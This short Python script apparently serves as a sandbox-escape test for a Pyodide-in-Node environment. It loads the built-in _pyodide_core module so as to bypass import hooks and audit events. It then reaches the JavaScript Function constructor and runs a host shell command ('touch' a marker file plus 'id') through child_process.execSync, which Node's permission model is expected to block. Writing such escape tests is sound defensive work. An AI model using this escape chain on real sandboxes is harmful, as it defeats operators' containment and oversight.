# Route (gets past the Python-level blocks): `_pyodide_core` is a built-in module, so
# _imp.create_builtin hands out the already-initialised module object without consulting
# sys.meta_path or raising the "import" audit event. Its to_js gives a JsProxy whose
# .constructor.constructor is the Function constructor of the interpreter thread's realm. What must
# stop it is the process wall: Node's permission model refuses child_process.
import _imp
import importlib.machinery

core = _imp.create_builtin(importlib.machinery.BuiltinImporter.find_spec("_pyodide_core"))
Function = core.to_js([]).constructor.constructor
process = Function("return process")()
out = process.getBuiltinModule("child_process").execSync(f"touch {MARKER_FILE}; id")
print(f"ESCAPED: child_process.execSync ran on the host: {out}")
